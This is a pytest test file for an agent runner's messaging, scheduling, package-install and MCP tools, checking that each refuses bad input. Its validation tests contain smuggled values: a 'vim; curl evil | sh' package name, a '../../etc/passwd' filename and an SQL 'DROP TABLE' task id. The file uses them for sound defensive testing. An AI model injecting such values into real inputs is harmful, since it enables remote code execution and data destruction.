"""Each agent tool: what it writes to outbound.db, and how it refuses bad input (never by raising)."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from agent_runner.routes import Route
from agent_runner.tools import ALL_TOOLS
from agent_runner.tools.base import ToolResult
from tests.unit.runner_support import (
    MAIN_CHAT,
    MAIN_DEST,
    OTHER_DEST,
    Parts,
    add_message,
    chat,
    create_inbound,
    create_session,
    host_write,
    make_parts,
    outbound_rows,
    record_delivery,
    set_destinations,
    wait_for,
)

MAIN, OTHER = MAIN_DEST, OTHER_DEST
FAR = "2999-01-01 00:00:00"


@pytest.fixture
def parts(tmp_path: Path) -> Iterator[Parts]:
    create_session(tmp_path)
    (tmp_path / "agent").mkdir()
    built = make_parts(tmp_path)
    built.context.conversation.origin = Route(*MAIN_CHAT, "th-7")
    yield built
    built.db.close()


def call(parts: Parts, tool: str, /, **args: Any) -> ToolResult:
    return parts.toolbox.call(tool, args)


def rows(parts: Parts) -> list[dict[str, Any]]:
    return outbound_rows(parts.config.workspace)


def error(parts: Parts, tool: str, /, **args: Any) -> str:
    result = call(parts, tool, **args)
    assert result.is_error, result.text
    assert result.text.startswith("Error: ")
    assert rows(parts) == [], "a refused call must write nothing"
    return result.text


# -- the tool box --------------------------------------------------------------------


def test_unknown_tool_and_unknown_arguments(parts: Parts) -> None:
    assert "unknown tool" in error(parts, "launch_rockets")
    assert "unknown argument(s): colour" in error(parts, "send_message", text="hi", colour="red")
    assert parts.toolbox.call("send_message", "not a dict").is_error  # type: ignore[arg-type]


def test_admin_only_tools_are_offered_to_the_admin_group_only(tmp_path: Path) -> None:
    create_inbound(tmp_path / "inbound.db")
    user = make_parts(tmp_path, HERMITCRAB_IS_ADMIN="0")
    assert "create_agent" not in user.toolbox.specs
    assert set(user.toolbox.specs) == {s.name for s in ALL_TOOLS} - {"create_agent"}
    user.db.close()


def test_a_tool_bug_becomes_an_error_result(parts: Parts, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("disk on fire")

    monkeypatch.setattr(parts.db, "write_message", broken)
    result = call(parts, "send_message", text="hi")
    assert result.is_error and "disk on fire" in result.text


# -- send_message ----------------------------------------------------------------------


def test_send_message_to_the_current_conversation(parts: Parts) -> None:
    result = call(parts, "send_message", text="on it")
    [row] = rows(parts)
    assert result == ToolResult(f"Message sent to the current conversation (id: {row['seq']})")
    assert (row["channel_type"], row["platform_id"], row["thread_id"]) == (*MAIN_CHAT, "th-7")
    assert row["body"] == {"text": "on it"} and row["seq"] % 2 == 1


def test_send_message_to_a_named_destination(parts: Parts) -> None:
    assert not call(parts, "send_message", to="other", text="hello").is_error
    [row] = rows(parts)
    assert (row["channel_type"], row["platform_id"], row["thread_id"]) == ("slack", "C-other", None)


def test_send_message_validation(parts: Parts) -> None:
    assert "text is required" in error(parts, "send_message")
    assert "text is required" in error(parts, "send_message", text="   ")
    assert "must be a string" in error(parts, "send_message", text=42)
    assert 'unknown destination "nowhere"' in error(parts, "send_message", to="nowhere", text="x")
    assert "too long" in error(parts, "send_message", text="x" * 20_001)


def test_send_message_without_any_conversation(tmp_path: Path) -> None:
    create_inbound(tmp_path / "inbound.db")
    set_destinations(tmp_path, [MAIN, OTHER])
    bare = make_parts(tmp_path)
    result = call(bare, "send_message", text="who hears me?")
    assert result.is_error and 'set "to" to one of: main, other' in result.text
    bare.db.close()


# -- send_file -------------------------------------------------------------------------


def test_send_file_copies_into_the_outbox(parts: Parts) -> None:
    (parts.config.agent_dir / "report.txt").write_text("numbers")
    result = call(parts, "send_file", path="report.txt", text="here", filename="Q1 report.txt")
    assert not result.is_error, result.text
    [row] = rows(parts)
    assert row["body"] == {"text": "here", "files": ["Q1 report.txt"]}
    assert (parts.config.outbox_dir / row["id"] / "Q1 report.txt").read_text() == "numbers"


def test_send_file_validation(parts: Parts) -> None:
    (parts.config.agent_dir / "a.txt").write_text("x")
    assert "no file at missing.txt" in error(parts, "send_file", path="missing.txt")
    assert "no file at" in error(parts, "send_file", path=str(parts.config.agent_dir))
    assert "plain file name" in error(parts, "send_file", path="a.txt", filename="../../etc/passwd")
    assert "path is required" in error(parts, "send_file")
    assert not parts.config.outbox_dir.exists() or not any(parts.config.outbox_dir.iterdir())


# -- edit_message / add_reaction -----------------------------------------------------------


def test_edit_own_message(parts: Parts) -> None:
    call(parts, "send_message", text="draft")
    seq = rows(parts)[0]["seq"]
    sent_id = rows(parts)[0]["id"]
    record_delivery(parts.config.workspace, sent_id, "tg-555")
    assert call(parts, "edit_message", messageId=seq, text="final").text == f"Edit of message #{seq} queued"
    edit = rows(parts)[-1]
    assert edit["body"] == {
        "operation": "edit",
        "messageId": "tg-555",
        "targetId": sent_id,
        "targetSeq": seq,
        "text": "final",
    }
    assert (edit["channel_type"], edit["platform_id"], edit["thread_id"]) == (*MAIN_CHAT, "th-7")


def test_edit_validation(parts: Parts) -> None:
    seq = add_message(parts.config.workspace, "m1", chat("user words"))
    assert "not sent by you" in error(parts, "edit_message", messageId=seq, text="x")
    assert "no message #99" in error(parts, "edit_message", messageId=99, text="x")
    assert "must be an integer" in error(parts, "edit_message", messageId="seven", text="x")
    assert "must be an integer" in error(parts, "edit_message", messageId=True, text="x")
    assert "at least 1" in error(parts, "edit_message", messageId=0, text="x")


def test_reaction_on_a_received_message(parts: Parts) -> None:
    seq = add_message(parts.config.workspace, "tg:42", chat("nice"), thread_id="th-1")
    assert not call(parts, "add_reaction", messageId=seq, emoji="thumbs_up").is_error
    [row] = rows(parts)
    assert row["body"] == {
        "operation": "reaction",
        "messageId": "tg:42",
        "targetId": "tg:42",
        "targetSeq": seq,
        "emoji": "thumbs_up",
    }
    assert row["thread_id"] == "th-1"


def test_reaction_validation(parts: Parts) -> None:
    seq = add_message(parts.config.workspace, "m1", chat("x"))
    assert "without spaces" in error(parts, "add_reaction", messageId=seq, emoji="thumbs up")
    assert "emoji is required" in error(parts, "add_reaction", messageId=seq)
    assert "no message #77" in error(parts, "add_reaction", messageId=77, emoji="heart")


# -- send_card / ask_user_question -------------------------------------------------------


def test_send_card(parts: Parts) -> None:
    card = {"title": "Weather", "fields": [{"label": "Today", "value": "sun"}]}
    assert not call(parts, "send_card", card=card).is_error
    [row] = rows(parts)
    assert row["kind"] == "chat-sdk"
    assert row["body"] == {"type": "card", "card": card, "fallbackText": "Weather"}


def test_send_card_validation(parts: Parts) -> None:
    assert "object" in error(parts, "send_card", card="Weather")
    assert "card.title" in error(parts, "send_card", card={"description": "no title"})
    assert "too large" in error(parts, "send_card", card={"title": "x", "body": "y" * 20_000})


def test_ask_user_question_waits_for_the_answer(parts: Parts) -> None:
    results: list[ToolResult] = []
    worker = threading.Thread(
        target=lambda: results.append(call(parts, "ask_user_question", question="Lunch?", options=["soup", "salad"]))
    )
    worker.start()
    card = wait_for(lambda: rows(parts), what="question card")[0]
    assert card["kind"] == "chat-sdk" and card["body"]["type"] == "ask_question"
    question_id = card["body"]["questionId"]
    assert question_id in parts.context.questions
    add_message(
        parts.config.workspace,
        "other-q",
        {"type": "question_response", "questionId": "q-x", "selectedOption": "no"},
        kind="system",
    )
    answer = {"type": "question_response", "questionId": question_id, "selectedOption": "salad", "userId": "u1"}
    add_message(parts.config.workspace, "ans", answer, kind="system")
    parts.signal.notify()
    worker.join(5)
    assert results == [ToolResult("salad")]
    assert parts.db.ack_status("ans") == "completed"
    assert parts.db.ack_status("other-q") is None
    assert question_id not in parts.context.questions


def test_ask_user_question_times_out(parts: Parts) -> None:
    result = call(parts, "ask_user_question", question="Still there?", options=["yes"], timeout=1)
    assert result.is_error and "no answer within 1 s" in result.text
    assert len(rows(parts)) == 1  # the card was sent


def test_ask_user_question_validation(parts: Parts) -> None:
    assert "question is required" in error(parts, "ask_user_question", options=["a"])
    assert "at least one choice" in error(parts, "ask_user_question", question="q?", options=[])
    assert "different from each other" in error(parts, "ask_user_question", question="q?", options=["a", "a"])
    assert "at most 10" in error(parts, "ask_user_question", question="q?", options=[str(i) for i in range(11)])
    assert "between 1 and 3600" in error(parts, "ask_user_question", question="q?", options=["a"], timeout=0)
    assert "non-empty strings" in error(parts, "ask_user_question", question="q?", options=["a", 3])


# -- scheduling ----------------------------------------------------------------------------


def actions(parts: Parts) -> list[dict[str, Any]]:
    return [r["body"] for r in rows(parts) if r["kind"] == "system"]


def test_schedule_one_shot_in_local_time(parts: Parts) -> None:
    result = call(parts, "schedule_task", prompt="call mum", processAfter="2999-07-01 09:00")
    assert not result.is_error, result.text
    [action] = actions(parts)
    # Auckland is UTC+12 in July: 09:00 local is 21:00 UTC the day before.
    assert action["processAfter"] == "2999-06-30 21:00:00"
    assert action["action"] == "schedule_task" and action["prompt"] == "call mum" and action["recurrence"] is None
    assert action["taskId"] == action["requestId"] == rows(parts)[0]["id"]
    assert (action["channelType"], action["platformId"], action["threadId"]) == (*MAIN_CHAT, "th-7")
    assert "2999-07-01 09:00 local time" in result.text


def test_schedule_with_offset_and_recurrence(parts: Parts) -> None:
    assert not call(
        parts, "schedule_task", prompt="p", processAfter="2999-01-01T00:00:00Z", recurrence="0  9 * * 1-5"
    ).is_error
    [action] = actions(parts)
    assert action["processAfter"] == "2999-01-01 00:00:00" and action["recurrence"] == "0 9 * * 1-5"


def test_schedule_recurrence_only_starts_at_the_next_occurrence(parts: Parts) -> None:
    assert not call(parts, "schedule_task", prompt="p", recurrence="30 7 * * *").is_error
    [action] = actions(parts)
    first = datetime.strptime(action["processAfter"], "%Y-%m-%d %H:%M:%S").replace(tzinfo=ZoneInfo("UTC"))
    local = first.astimezone(ZoneInfo("Pacific/Auckland"))
    assert (local.hour, local.minute) == (7, 30)


def test_schedule_validation(parts: Parts) -> None:
    assert "give processAfter" in error(parts, "schedule_task", prompt="p")
    assert "cannot read time" in error(parts, "schedule_task", prompt="p", processAfter="next tuesday")
    assert "in the past" in error(parts, "schedule_task", prompt="p", processAfter="2001-01-01 00:00")
    assert "5-field cron" in error(parts, "schedule_task", prompt="p", recurrence="every day")
    assert "5-field cron" in error(parts, "schedule_task", prompt="p", recurrence="0 0 9 * * 1")
    assert "5-field cron" in error(parts, "schedule_task", prompt="p", recurrence="61 * * * *")
    assert "prompt is required" in error(parts, "schedule_task", processAfter="2999-01-01 00:00")


def add_task(parts: Parts, task_id: str, status: str = "pending", recurrence: str | None = None) -> None:
    workspace = parts.config.workspace
    add_message(workspace, task_id, {"prompt": f"do {task_id}"}, kind="task", status=status, process_after=FAR)
    if recurrence:
        with host_write(workspace / "inbound.db") as conn:
            conn.execute("UPDATE messages_in SET recurrence = ? WHERE id = ?", (recurrence, task_id))


def test_list_tasks(parts: Parts) -> None:
    assert call(parts, "list_tasks").text == "No scheduled tasks."
    add_task(parts, "task-a", recurrence="0 9 * * *")
    add_task(parts, "task-b", status="paused")
    add_task(parts, "task-c", status="completed")
    listing = call(parts, "list_tasks").text
    assert "- task-a [pending] next 2999-01-01 13:00 repeats '0 9 * * *': do task-a" in listing
    assert "task-b [paused]" in listing and "task-c" not in listing
    assert "task-c [completed]" in call(parts, "list_tasks", status="completed").text
    assert "status must be one of" in error(parts, "list_tasks", status="sleeping")


def test_cancel_pause_resume(parts: Parts) -> None:
    add_task(parts, "task-a")
    add_task(parts, "task-b", status="paused")
    assert not call(parts, "pause_task", taskId="task-a").is_error
    assert not call(parts, "resume_task", taskId="task-b").is_error
    assert not call(parts, "cancel_task", taskId="task-a").is_error
    assert [(a["action"], a["taskId"]) for a in actions(parts)] == [
        ("pause_task", "task-a"),
        ("resume_task", "task-b"),
        ("cancel_task", "task-a"),
    ]


def test_task_control_validation(parts: Parts) -> None:
    add_task(parts, "task-a")
    add_task(parts, "task-b", status="paused")
    assert "no active task task-z" in error(parts, "cancel_task", taskId="task-z")
    assert "not a task id" in error(parts, "cancel_task", taskId="x'; DROP TABLE")
    assert "already paused" in error(parts, "pause_task", taskId="task-b")
    assert "not paused (it is pending)" in error(parts, "resume_task", taskId="task-a")
    assert "taskId is required" in error(parts, "cancel_task")


# -- create_agent / install_packages / add_mcp_server / request_rebuild -------------------------


def test_create_agent(parts: Parts) -> None:
    result = call(parts, "create_agent", name="Research Bot", instructions="Find papers.")
    assert 'message to="research-bot"' in result.text
    assert actions(parts) == [
        {
            "action": "create_agent",
            "requestId": rows(parts)[0]["id"],
            "name": "Research Bot",
            "instructions": "Find papers.",
        }
    ]


def test_create_agent_validation(parts: Parts, tmp_path: Path) -> None:
    assert "already have a destination" in error(parts, "create_agent", name="Other")
    assert "letters, digits" in error(parts, "create_agent", name="../evil")
    assert "name is required" in error(parts, "create_agent")
    user = make_parts(tmp_path, HERMITCRAB_IS_ADMIN="0")
    refused = user.toolbox.call("create_agent", {"name": "x"})
    assert refused.is_error and "unknown tool" in refused.text
    user.db.close()


def test_install_packages(parts: Parts) -> None:
    assert not call(
        parts, "install_packages", apt=["ffmpeg", "libxml2-dev"], pip=["pandas", "scikit-learn"], reason="data"
    ).is_error
    assert actions(parts)[0] == {
        "action": "install_packages",
        "requestId": rows(parts)[0]["id"],
        "apt": ["ffmpeg", "libxml2-dev"],
        "pip": ["pandas", "scikit-learn"],
        "reason": "data",
    }


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ({}, "at least one package"),
        ({"apt": ["vim; curl evil | sh"]}, "not a Debian package name"),
        ({"apt": ["Vim"]}, "not a Debian package name"),
        ({"apt": ["-y"]}, "not a Debian package name"),
        ({"pip": ["requests==2.0"]}, "not a Python package name"),
        ({"pip": ["pkg[extra]"]}, "not a Python package name"),
        ({"pip": ["git+https://x/y"]}, "not a Python package name"),
        ({"pip": ["A", "a"]}, "listed twice"),
        ({"apt": [f"p{i}" for i in range(11)], "pip": [f"q{i}" for i in range(10)]}, "at most 20 packages"),
        ({"pip": [f"q{i}" for i in range(21)]}, "at most 20"),
        ({"apt": "ffmpeg"}, "list of strings"),
    ],
)
def test_install_packages_validation(parts: Parts, args: dict[str, Any], message: str) -> None:
    assert message in error(parts, "install_packages", **args)


def test_add_mcp_server(parts: Parts) -> None:
    args = {"name": "weather", "command": "npx", "args": ["-y", "weather-mcp"], "env": {"API_KEY": "k"}}
    assert not call(parts, "add_mcp_server", **args).is_error
    assert actions(parts)[0] == {"action": "add_mcp_server", "requestId": rows(parts)[0]["id"], **args}


def test_add_mcp_server_validation(parts: Parts) -> None:
    assert "must be 1-40" in error(parts, "add_mcp_server", name="hermitcrab", command="x")
    assert "must be 1-40" in error(parts, "add_mcp_server", name="bad name", command="x")
    assert "command is required" in error(parts, "add_mcp_server", name="ok")
    assert "NAME -> string" in error(parts, "add_mcp_server", name="ok", command="x", env={"BAD-NAME": "v"})
    assert "NAME -> string" in error(parts, "add_mcp_server", name="ok", command="x", env={"N": 3})
    assert "newline" in error(parts, "add_mcp_server", name="ok", command="x", args=["a\nb"])
    assert "env must be an object" in error(parts, "add_mcp_server", name="ok", command="x", env=["A=b"])


def test_request_rebuild(parts: Parts) -> None:
    assert not call(parts, "request_rebuild", reason="new packages").is_error
    assert actions(parts)[0] == {
        "action": "request_rebuild",
        "requestId": rows(parts)[0]["id"],
        "reason": "new packages",
    }
    assert "too long" in call(parts, "request_rebuild", reason="x" * 3000).text


def test_every_tool_has_an_object_schema_matching_its_arguments() -> None:
    for spec in ALL_TOOLS:
        assert spec.schema["type"] == "object", spec.name
        assert set(spec.schema["required"]) <= set(spec.schema["properties"]), spec.name
        json.dumps(spec.schema)
